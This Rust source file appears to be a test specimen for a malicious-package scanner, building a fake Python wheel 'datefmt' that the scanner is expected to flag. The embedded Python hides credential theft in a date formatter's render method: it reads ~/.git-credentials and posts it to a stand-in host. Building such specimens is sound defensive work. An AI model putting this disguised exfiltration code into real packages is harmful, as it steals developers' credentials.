//! The Python twin: a method that sends `~/.git-credentials` when it is called.
//!
//! Must be found: in the execute phase only.

use apa_model::Ecosystem;

use crate::{Expect, Specimen, Wheel};

const INIT: &str = r#"class Formatter:
    def __init__(self, locale):
        self.locale = locale

    def render(self, date):
        import os
        import urllib.request

        with open(os.path.expanduser("~/.git-credentials"), "rb") as file:
            urllib.request.urlopen("http://api.example/f", file.read(), timeout=5)
        return str(date)
"#;

pub(super) fn specimen() -> Specimen {
    let package = Wheel::new("datefmt", "1.2.0").file("datefmt/__init__.py", INIT);
    Specimen {
        name: "pypi-steals-when-called",
        ecosystem: Ecosystem::Pypi,
        filename: package.filename(),
        bytes: package.build(),
        served: Vec::new(),
        expect: Expect::malicious(&["canary-exfiltrated", "credential-read-then-send"]),
    }
}
